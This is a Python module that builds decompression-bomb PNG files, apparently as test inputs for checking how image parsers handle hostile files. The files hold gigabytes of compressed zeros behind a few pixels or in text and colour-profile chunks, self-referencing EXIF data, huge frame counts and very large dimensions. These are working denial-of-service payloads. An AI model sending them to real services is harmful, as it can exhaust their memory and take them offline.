"""PNG bombs: gigabytes of zeros behind few pixels or in texts, and many chunks. Chunks are those of RFC 2083."""

import struct
import zlib

_SIGNATURE = b"\x89PNG\r\n\x1a\n"
_MEGABYTE = 1 << 20
_GIGABYTES = 2 << 10  # megabytes
_ADLER_BASE = 65_521
_GRAY, _COLOUR, _COLOUR_AND_ALPHA = 0, 2, 6
_SIDE = 7000


def png_bombs(most: int) -> dict[str, bytes]:
    """Return PNGs of at most `most` bytes, by name."""
    return {**_behind_the_pixels(most), **_in_other_chunks(most), **_large()}


def _behind_the_pixels(most: int) -> dict[str, bytes]:
    room = most - 200
    return {
        "png_1_pixel_and_2_gib": _png(1, 1, 8, _COLOUR, zeros(_GIGABYTES)),
        "png_1_pixel_and_20_gib": _png(1, 1, 8, _COLOUR, zeros(room // len(_zeros_of_a_megabyte()) - 1)),
        "png_1_pixel_and_2_gib_in_many_chunks": _in_pieces(_png_head(1, 1, 8, _COLOUR), zeros(_GIGABYTES), 100),
        "png_100_pixels_interlaced_and_2_gib": _png(10, 10, 8, _COLOUR, zeros(_GIGABYTES), interlaced=True),
        "png_stored_zeros_behind_a_pixel": _png(1, 1, 8, _COLOUR, zlib.compress(bytes(room - 20_000), 0)),
        "png_4_megapixels_and_3_gib": _png(2000, 2000, 8, _COLOUR, zeros(3 << 10)),
        "png_9_megapixels_and_16_gib": _png(3000, 3000, 8, _COLOUR_AND_ALPHA, zeros(16 << 10)),
        "png_empty_data_chunks": _in_pieces(_png_head(1, 1, 8, _COLOUR), zlib.compress(bytes(4)), 1, room // 12 - 99),
    }


def _in_other_chunks(most: int) -> dict[str, bytes]:
    pixels = _chunk(b"IDAT", zlib.compress(bytes(4)))
    head, end = _png_head(1, 1, 8, _COLOUR), _chunk(b"IEND")
    room = most - len(head) - len(pixels) - len(end)

    def with_chunks(chunk: bytes, most_chunks: int = 1 << 30) -> bytes:
        return head + chunk * min(most_chunks, room // len(chunk)) + pixels + end

    text = b"Comment\0\0"
    international = b"Comment\0\1\0\0\0"
    seven = zeros(7)
    animation = _chunk(b"acTL", struct.pack(">LL", 100_000, 0))
    frame = _chunk(b"fcTL", struct.pack(">LLLLLHHBB", 0, 1, 1, 0, 0, 1, 100, 0, 0))
    return {
        "png_text_of_2_gib": with_chunks(_chunk(b"zTXt", text + zeros(_GIGABYTES)), 1),
        "png_texts_of_7_mib": with_chunks(_chunk(b"zTXt", text + seven)),
        "png_international_texts_of_7_mib": with_chunks(_chunk(b"iTXt", international + seven)),
        "png_texts_behind_the_pixels": head + pixels + _chunk(b"zTXt", text + seven) * (room // 7500) + end,
        "png_profile_of_2_gib": with_chunks(_chunk(b"iCCP", b"icc\0\0" + zeros(_GIGABYTES)), 1),
        "png_profiles_of_7_mib": with_chunks(_chunk(b"iCCP", b"icc\0\0" + seven)),
        "png_short_texts": with_chunks(_chunk(b"tEXt", b"a\0")),
        "png_long_text": with_chunks(_chunk(b"tEXt", b"a\0" + bytes([32]) * (room - 100))),
        "png_unknown_chunks": with_chunks(_chunk(b"abCd")),
        "png_suggested_palettes": with_chunks(_chunk(b"sPLT", b"a\0\x08" + bytes(6 * 100))),
        "png_looping_exif": with_chunks(
            _chunk(b"eXIf", b"II*\0" + struct.pack("<LHHHLLL", 8, 1, 0x8769, 4, 1, 8, 8)), 1
        ),
        "png_animation": head + animation + frame + pixels + frame * (room // len(frame) - 9) + end,
    }


def _large() -> dict[str, bytes]:
    row_bytes = {_GRAY: (_SIDE + 7) // 8, _COLOUR: _SIDE * 3, _COLOUR_AND_ALPHA: _SIDE * 8}
    return {
        "png_49_megapixels_of_one_bit": _png(_SIDE, _SIDE, 1, _GRAY, _rows(row_bytes[_GRAY])),
        "png_49_megapixels": _png(_SIDE, _SIDE, 8, _COLOUR, _rows(row_bytes[_COLOUR])),
        "png_49_megapixels_of_16_bits": _png(_SIDE, _SIDE, 16, _COLOUR_AND_ALPHA, _rows(row_bytes[_COLOUR_AND_ALPHA])),
        "png_49_megapixels_interlaced": _png(
            _SIDE, _SIDE, 16, _COLOUR_AND_ALPHA, zeros(_SIDE * (_SIDE + 2) * 8 // _MEGABYTE + 1), interlaced=True
        ),
        "png_49_megapixels_without_data": _png(_SIDE, _SIDE, 8, _COLOUR, zeros(0)),
        "png_400_megapixels_of_one_bit": _png(20_000, 20_000, 1, _GRAY, zeros(48)),
    }


def zeros(megabytes: int) -> bytes:
    """Return a zlib stream of zeros: one compressed megabyte, repeated."""
    # Adler-32 of n zeros: the sum of the bytes and one is 1, the sum of those sums is n
    checksum = (megabytes * _MEGABYTE % _ADLER_BASE) << 16 | 1
    return b"\x78\x9c" + _zeros_of_a_megabyte() * megabytes + b"\x03\x00" + struct.pack(">L", checksum)


def _zeros_of_a_megabyte() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(bytes(_MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)


def _rows(row_bytes: int) -> bytes:
    """Return 7,000 rows with the filter that takes longest to undo, Paeth's, of zeros."""
    packer = zlib.compressobj(1)
    row = b"\x04" + bytes(row_bytes)
    return b"".join([*(packer.compress(row) for _ in range(_SIDE)), packer.flush()])


def _png(width: int, height: int, depth: int, kind: int, data: bytes, *, interlaced: bool = False) -> bytes:
    return _png_head(width, height, depth, kind, interlaced=interlaced) + _chunk(b"IDAT", data) + _chunk(b"IEND")


def _in_pieces(head: bytes, data: bytes, size: int, empty: int = 0) -> bytes:
    """Return a PNG whose data come in chunks of `size` bytes, `empty` others without any before the last."""
    pieces = [_chunk(b"IDAT", data[at : at + size]) for at in range(0, len(data), size)]
    return head + b"".join(pieces[:-1]) + _chunk(b"IDAT") * empty + pieces[-1] + _chunk(b"IEND")


def _png_head(width: int, height: int, depth: int, kind: int, *, interlaced: bool = False) -> bytes:
    return _SIGNATURE + _chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, depth, kind, 0, 0, interlaced))


def _chunk(name: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))
